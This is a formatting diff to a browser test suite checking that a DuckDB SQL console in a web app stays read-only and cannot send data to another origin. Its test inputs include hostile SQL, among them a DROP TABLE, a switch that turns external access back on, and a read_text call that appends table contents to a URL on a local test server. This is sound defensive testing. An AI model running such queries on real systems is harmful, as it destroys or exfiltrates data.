@@ -23,7 +23,7 @@ function startOther(): Promise<typeof other> {
       const { port } = server.address() as { port: number };
       // "localhost" and "127.0.0.1" are different origins from the atlas's 127.0.0.1:<its port> anyway
       resolve({ url: `http://localhost:${port}`, hits, close: () => new Promise((r) => server.close(() => r())) });
-    })
+    }),
   );
 }
 
@@ -52,7 +52,10 @@ async function run(page: Page, sql: string): Promise<{ kind: 'refused' | 'error'
   await said.first().waitFor({ timeout: 60000 });
   await expect.poll(() => tool.getByTestId('sql-run').isEnabled(), { timeout: 60000 }).toBe(true);
   const id = await said.first().getAttribute('data-testid');
-  return { kind: id === 'sql-refused' ? 'refused' : id === 'sql-error' ? 'error' : 'result', text: (await said.first().textContent()) ?? '' };
+  return {
+    kind: id === 'sql-refused' ? 'refused' : id === 'sql-error' ? 'error' : 'result',
+    text: (await said.first().textContent()) ?? '',
+  };
 }
 
 const firstCell = (page: Page) => page.getByTestId('sql-result').locator('tbody td').first().textContent();
@@ -76,7 +79,7 @@ describe('the SQL console only reads, and nothing leaves the page (Chromium)', (
       'CALL pragma_version()',
       'PRAGMA version',
       'SET enable_external_access = true',
-      'DROP TABLE territories'
+      'DROP TABLE territories',
     ];
     for (const sql of attacks) {
       const r = await run(page, sql);
@@ -108,7 +111,7 @@ describe('the SQL console only reads, and nothing leaves the page (Chromium)', (
       `SELECT * FROM read_text(concat('http', '://localhost:${port}/y'))`,
       `SELECT * FROM read_text('${o}/names?' || (SELECT string_agg(name, ',') FROM territories WHERE level = 'region'))`,
       `SELECT * FROM read_blob('${o}/z')`,
-      `SELECT * FROM glob('${o}/*')`
+      `SELECT * FROM glob('${o}/*')`,
     ];
     for (const sql of tries) {
       const r = await run(page, sql);
@@ -121,10 +124,15 @@ describe('the SQL console only reads, and nothing leaves the page (Chromium)', (
   it('the page itself cannot reach another origin either (Content-Security-Policy)', async () => {
     const page = await h.open('', { waitFor: 'base' });
     const o = other.url;
-    const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
+    const csp = await page.evaluate(
+      () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
+    );
     expect(csp).toContain("connect-src 'self'");
     const outcomes = await page.evaluate(async (o) => {
-      const fetched = await fetch(`${o}/f`).then(() => 'sent', () => 'blocked');
+      const fetched = await fetch(`${o}/f`).then(
+        () => 'sent',
+        () => 'blocked',
+      );
       const img = await new Promise<string>((r) => {
         const i = new Image();
         i.onload = () => r('sent');
@@ -152,8 +160,12 @@ describe('the SQL console only reads, and nothing leaves the page (Chromium)', (
     await page.waitForTimeout(1000);
     expect(other.hits).toEqual([]);
     // with a tile server named by the user, that one origin (and no other) is allowed
-    const tiles = await h.open(`?tiles=${encodeURIComponent('https://tiles.invalid/{z}/{x}/{y}.png')}`, { waitFor: 'none' });
-    const withTiles = await tiles.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
+    const tiles = await h.open(`?tiles=${encodeURIComponent('https://tiles.invalid/{z}/{x}/{y}.png')}`, {
+      waitFor: 'none',
+    });
+    const withTiles = await tiles.evaluate(
+      () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
+    );
     expect(withTiles).toContain("connect-src 'self' https://tiles.invalid;");
     await page.close();
     await tiles.close();
@@ -161,13 +173,27 @@ describe('the SQL console only reads, and nothing leaves the page (Chromium)', (
 
   it('shows numbers as DuckDB computed them, and exports the same cells', async () => {
     const page = await openConsole();
-    const r = await run(page, "SELECT 1.5 AS x, 0.25 AS y, 170141183460469231731687303715884105727::HUGEINT AS h, DATE '2024-01-02' AS d, INTERVAL 3 DAY AS i, [1, 2] AS l, {'a': 1} AS s, NULL AS n");
+    const r = await run(
+      page,
+      "SELECT 1.5 AS x, 0.25 AS y, 170141183460469231731687303715884105727::HUGEINT AS h, DATE '2024-01-02' AS d, INTERVAL 3 DAY AS i, [1, 2] AS l, {'a': 1} AS s, NULL AS n",
+    );
     expect(r.kind).toBe('result');
     const cells = await page.getByTestId('sql-result').locator('tbody td').allTextContents();
-    expect(cells).toEqual(['1.5', '0.25', '170141183460469231731687303715884105727', '2024-01-02', '3 days', '[1, 2]', "{'a': 1}", 'NULL']);
+    expect(cells).toEqual([
+      '1.5',
+      '0.25',
+      '170141183460469231731687303715884105727',
+      '2024-01-02',
+      '3 days',
+      '[1, 2]',
+      "{'a': 1}",
+      'NULL',
+    ]);
     const [dl] = await Promise.all([page.waitForEvent('download'), page.getByTestId('sql-export-csv').click()]);
     const csv = fs.readFileSync((await dl.path())!, 'utf8');
-    expect(csv).toBe('\ufeffx,y,h,d,i,l,s,n\r\n1.5,0.25,170141183460469231731687303715884105727,2024-01-02,3 days,"[1, 2]",{\'a\': 1},\r\n');
+    expect(csv).toBe(
+      '\ufeffx,y,h,d,i,l,s,n\r\n1.5,0.25,170141183460469231731687303715884105727,2024-01-02,3 days,"[1, 2]",{\'a\': 1},\r\n',
+    );
     await page.close();
   });
 
@@ -196,7 +222,9 @@ describe('the SQL console only reads, and nothing leaves the page (Chromium)', (
     await tool.getByTestId('sql-stop').waitFor({ timeout: 30000 });
     await page.waitForTimeout(500);
     await tool.getByTestId('sql-stop').click();
-    await expect.poll(() => tool.getByTestId('sql-error').textContent(), { timeout: 20000 }).toMatch(/Istruzione fermata/);
+    await expect
+      .poll(() => tool.getByTestId('sql-error').textContent(), { timeout: 20000 })
+      .toMatch(/Istruzione fermata/);
     // and the console goes on working
     expect((await run(page, 'SELECT 41 + 1 AS n')).kind).toBe('result');
     expect(await firstCell(page)).toBe('42');
@@ -206,6 +234,8 @@ describe('the SQL console only reads, and nothing leaves the page (Chromium)', (
   it('made no request outside its origin; the only console errors are the refusals it provoked', () => {
     expect(other.hits).toEqual([]);
     expect(h.foreign.filter((u) => !u.startsWith(other.url) && !u.startsWith('https://tiles.invalid'))).toEqual([]);
-    expect(h.errors.filter((e) => !/Content Security Policy|ERR_BLOCKED|net::ERR|Failed to load resource/.test(e))).toEqual([]);
+    expect(
+      h.errors.filter((e) => !/Content Security Policy|ERR_BLOCKED|net::ERR|Failed to load resource/.test(e)),
+    ).toEqual([]);
   });
 });
